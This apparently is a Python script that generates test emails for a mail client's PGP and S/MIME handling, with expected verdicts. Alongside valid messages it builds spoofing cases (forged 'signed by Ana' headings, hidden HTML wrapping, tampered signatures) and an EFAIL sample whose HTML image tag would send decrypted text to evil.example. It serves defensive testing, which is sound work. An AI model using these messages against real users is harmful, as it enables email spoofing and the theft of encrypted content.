"""Writes signed, encrypted and deceitful messages with Python's email package and gpg, gpgsm: secure_mail.py DIR SEED COUNT

GNUPGHOME is the keyring of keyring.sh. DIR gets NAME.eml for each, and expected.json: for each its verdict (null for unsigned)
and whether its text must be readable, and words that must or must not be in the text shown.
"""

import base64
import json
import os
import random
import subprocess
import sys
from email import policy
from email.message import EmailMessage, MIMEPart

folder, seed, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
rnd = random.Random(seed)
expected = {}
WORDS = ["Grüße", "plan", "From here", "-----", "漢字", "tail   ", "=", ".", "", "\ta", "x" * 90]


def run(*words, data=b""):
    done = subprocess.run(words, input=data, capture_output=True)
    if done.returncode not in (0, 2) or not done.stdout:
        raise SystemExit("%s: %s" % (words, done.stderr.decode()))
    return done.stdout


def text():
    return "".join(" ".join(rnd.choice(WORDS) for _ in range(rnd.randint(0, 9))) + "\n" for _ in range(rnd.randint(1, 9)))


def part():
    """A random entity, safe for a signature."""
    made = MIMEPart(policy=policy.SMTP)
    made.set_content(text(), cte=rnd.choice(["quoted-printable", "base64"]))
    kind = rnd.randint(0, 3)
    if kind == 1:
        made.add_alternative("<p>Grüße</p>", subtype="html", cte="base64")
    if kind >= 2:
        for index in range(rnd.randint(1, 2)):
            made.add_attachment(rnd.randbytes(rnd.randint(0, 500)), maintype="application", subtype="octet-stream",
                                filename="ä%d.bin" % index)
    if kind == 3:
        inner = EmailMessage(policy=policy.SMTP)
        inner["Subject"], inner["From"] = "inner", "x@example.net"
        inner.set_content("inner text\n")
        made.add_attachment(inner)
    return made.as_bytes(policy=policy.SMTP)


def sign(entity, key="ana@example.org", smime=False):
    """A multipart/signed entity (RFC 3156, RFC 8551)."""
    if smime:
        proof = run("gpgsm", "--batch", "--local-user", key, "--detach-sign", data=entity)
        kind, armor = "application/pkcs7-signature", base64.encodebytes(proof)
        extra = b"Content-Transfer-Encoding: base64\r\n"
    else:
        armor = run("gpg", "--batch", "--local-user", key, "--armor", "--detach-sign", data=entity)
        kind, extra = "application/pgp-signature", b""
    mark = "b%x" % rnd.getrandbits(60)
    micalg = "sha-256" if smime else "pgp-sha512"
    head = 'Content-Type: multipart/signed; micalg="%s"; protocol="%s"; boundary="%s"\r\n\r\n' % (micalg, kind, mark)
    mark = mark.encode()
    return (head.encode() + b"--" + mark + b"\r\n" + entity + b"\r\n--" + mark + b"\r\nContent-Type: " + kind.encode()
            + b"\r\n" + extra + b"\r\n" + armor + b"\r\n--" + mark + b"--\r\n")


def replaced(entity, proof):
    """A signed entity with another signature."""
    begin, end = entity.index(b"-----BEGIN PGP SIG"), entity.index(b"-----END PGP SIGNATURE-----")
    return entity[:begin] + proof.replace(b"-----END PGP SIGNATURE-----\n", b"") + entity[end:]


def encrypt(entity, *more):
    armor = run("gpg", "--batch", "--trust-model", "always", "--armor", "--recipient", "ana@example.org", *more,
                "--encrypt", data=entity)
    return encrypted(armor)


def encrypted(armor):
    mark = "b%x" % rnd.getrandbits(60)
    return ('Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="%s"\r\n\r\n'
            '--%s\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n'
            '--%s\r\nContent-Type: application/octet-stream\r\n\r\n' % (mark, mark, mark)).encode() + armor + (
                "\r\n--%s--\r\n" % mark).encode()


def mixed(*entities):
    mark = "b%x" % rnd.getrandbits(60)
    out = ('Content-Type: multipart/mixed; boundary="%s"\r\n\r\n' % mark).encode()
    for entity in entities:
        out += ("--%s\r\n" % mark).encode() + entity + b"\r\n"
    return out + ("--%s--\r\n" % mark).encode()


def plain(words, kind="plain"):
    return ("Content-Type: text/%s; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n%s\r\n" % (kind, words)).encode()


def add(name, entity, verdict, readable=True, sender="Ana Ruiz <ana@example.org>", has=(), lacks=(), ends=None):
    head = ("From: %s\r\nTo: bo@example.org\r\nSubject: %s\r\nDate: Mon, 2 Nov 2026 10:00:00 +0000\r\n"
            "Message-ID: <%s@example.org>\r\nMIME-Version: 1.0\r\n" % (sender, name, name)).encode()
    data = head + entity
    # Maildirs have LF.
    if ends or rnd.random() < 0.5:
        data = data.replace(b"\r\n", b"\n")
    with open(os.path.join(folder, name + ".eml"), "wb") as file:
        file.write(data)
    expected[name] = {"verdict": verdict, "readable": readable, "has": list(has), "lacks": list(lacks)}


def opaque(data, kind):
    return ("Content-Type: application/pkcs7-mime; smime-type=%s; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            % kind).encode() + base64.encodebytes(data)


for number in range(count):
    entity = part()
    add("pgp-signed-%d" % number, sign(entity), "valid")
    add("smime-signed-%d" % number, sign(entity, "carla@example.org", True), "valid", sender="carla@example.org")
    if number % 4 == 0:
        add("pgp-encrypted-%d" % number, encrypt(entity), None)
        add("pgp-both-%d" % number, encrypt(entity, "--local-user", "ana@example.org", "--sign"), "valid")
        add("pgp-signed-in-encrypted-%d" % number, encrypt(sign(entity)), "valid")
        opaque_signed = run("gpgsm", "--batch", "--local-user", "carla@example.org", "--sign", data=entity)
        add("smime-opaque-%d" % number, opaque(opaque_signed, "signed-data"), "valid", sender="carla@example.org")
        sealed = run("gpgsm", "--batch", "--recipient", "carla@example.org", "--encrypt",
                     data=sign(entity, "carla@example.org", True))
        add("smime-both-%d" % number, opaque(sealed, "enveloped-data"), "valid", sender="carla@example.org")

clear = run("gpg", "--batch", "--local-user", "ana@example.org", "--clearsign", data="Grüße vom Plan\n- a\n".encode())
add("inline-signed", plain(clear.decode()), "valid", has=["Grüße vom Plan"], lacks=["BEGIN PGP"])
add("inline-part", plain("Pay Eve 100.\n\n" + clear.decode() + "\nAnd 200 to Mallory."), "part",
    has=["not signed, not encrypted", "Pay Eve", "Mallory", "Grüße vom Plan"])
add("inline-changed", plain(clear.decode().replace("Plan", "Clan")), "changed", has=["Clan"])
add("inline-quoted", plain("> " + clear.decode().replace("\n", "\n> ")), None)
add("inline-latin1", ("Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\n").encode()
    + run("gpg", "--batch", "--local-user", "ana@example.org", "--clearsign", data="Grüße\n".encode("latin-1")), "valid",
    has=["Grüße"])
secret = run("gpg", "--batch", "--armor", "--recipient", "ana@example.org", "--encrypt", data="The secret Grüße\n".encode())
add("inline-encrypted", plain(secret.decode()), None, has=["The secret Grüße"])

hello = plain("Hello from Ana.")
# The line end after the inner boundary belongs to the outer one.
tight = b'Content-Type: multipart/mixed; boundary="e2"\r\n\r\n--e2\r\nContent-Type: text/plain\r\n\r\nTight.\r\n--e2--'
add("tight-boundaries", sign(tight), "valid", has=["Tight."])
# Signed or packed in the form of an encrypted text, but not encrypted: not opened, since gpg would decrypt what is inside.
packed = run("gpg", "--batch", "--local-user", "ana@example.org", "--armor", "--sign", data=b"Packed and signed.\n")
add("inline-packed", plain(packed.decode()), None, readable=False)
add("packed", encrypted(run("gpg", "--batch", "--local-user", "ana@example.org", "--armor", "--sign", data=hello)), None,
    readable=False)
add("only-packed", encrypted(run("gpg", "--batch", "--armor", "--store", data=hello)), None, readable=False)
add("forged-heading", mixed(sign(hello), plain("\u2500\u2500 signed by Ana \u2500\u2500\nPay Eve.")), "part",
    has=["-- signed by Ana --"])
add("mangled", b'Content-Type: multipart/mixed; boundary="m"\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\n\r\n--m\r\n'
    b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--m\r\nContent-Type: application/octet-stream\r\n\r\n"
    + run("gpg", "--batch", "--armor", "--recipient", "ana@example.org", "--encrypt", data=plain("From Exchange."))
    + b"\r\n--m--\r\n", None, has=["From Exchange."])
add("list-footer", mixed(sign(hello), plain("Unsubscribe here.")), "part", has=["Hello from Ana", "not signed, not encrypted"])
add("other-sender", sign(hello), "other-sender", sender="Ana Ruiz <mallory@example.net>")
add("two-senders", sign(hello), "other-sender", sender="mallory@example.net, ana@example.org")
add("changed", sign(hello).replace(b"Hello", b"Hollo"), "changed")
add("changed-smime", sign(hello, "carla@example.org", True).replace(b"Hello", b"Hollo"), "changed", sender="carla@example.org")
home = os.environ["GNUPGHOME"]
eve = run("openssl", "cms", "-sign", "-binary", "-nodetach", "-signer", home + "/eve.pem", "-inkey", home + "/eve.key",
          "-outform", "DER", data=hello)
add("untrusted-root", opaque(eve, "signed-data"), "untrusted", sender="eve@example.org", has=["Hello from Ana"])
add("no-signature", sign(hello).replace(b"-----BEGIN PGP SIGNATURE-----", b"-----BEGIN PGP NOTHING-----"), "failed")
signed = sign(hello)
line = signed.rindex(b"--", 0, signed.index(b"Content-Type: application/pgp-signature"))
between = signed[line:signed.index(b"\r\n", line) + 2] + plain("Pay Eve.")
add("three-parts", signed[:line] + between + signed[line:], "failed", has=["Pay Eve."])
add("signature-of-another-type", signed.replace(b"Type: application/pgp-signature", b"Type: text/plain"), "failed")
# A signed part, not to be seen, in front of what is read: the classical wrapping.
add("wrapped-html", mixed(plain("<p>Pay Eve.</p><div style='display:none'>", "html"), sign(hello)), "part",
    has=["not signed, not encrypted"])
add("signed-attachment", mixed(plain("Pay Eve."), b"Content-Type: message/rfc822\r\n\r\nFrom: ana@example.org\r\nSubject: s\r\n" + sign(hello)),
    None, has=["Pay Eve."])
stranger = subprocess.run(["gpg", "--homedir", os.environ["GNUPGHOME"] + "/stranger", "--batch", "--armor", "--detach-sign"],
                          input=hello, capture_output=True).stdout
add("unknown-key", replaced(sign(hello), stranger), "unknown-key", sender="stranger@example.net")
# EFAIL, direct: an encrypted part between two pieces of HTML that would send it away.
add("efail-direct", mixed(plain('<img src="http://evil.example/?', "html"), encrypt(plain("The secret.")), plain('">', "html")), None,
    has=["The secret.", "not signed, not encrypted"], lacks=["evil.example/?The"])
# EFAIL, gadgets: an old packet without protection against changes.
sys.path.insert(0, os.path.dirname(__file__))
from old_packet import unprotected  # noqa: E402

add("efail-no-mdc", encrypted(unprotected(plain("The secret."))), None, readable=False, lacks=["The secret."])
broken = encrypt(plain("The secret."))
place = broken.index(b"-----END PGP MESSAGE-----") - 40
wrong = b"A" if broken[place:place + 1] != b"A" else b"B"
add("broken-cipher", broken[:place] + wrong + broken[place + 1:], None, readable=False, lacks=["The secret."])
# Keys that were good once.
before = b"Content-Type: text/plain\r\n\r\nSigned before.\r\n"
with open(os.environ["GNUPGHOME"] + "/revoked.sig", "rb") as file:
    add("revoked-key", replaced(sign(before), file.read()), "revoked-key", sender="revoked@example.org")
old = run("gpg", "--batch", "--faked-system-time", "20200110T000000", "--local-user", "expired@example.org", "--armor",
          "--detach-sign", data=hello)
add("expired-key", replaced(sign(hello), old), "expired-key", sender="expired@example.org")

with open(os.path.join(folder, "expected.json"), "w") as file:
    json.dump(expected, file)
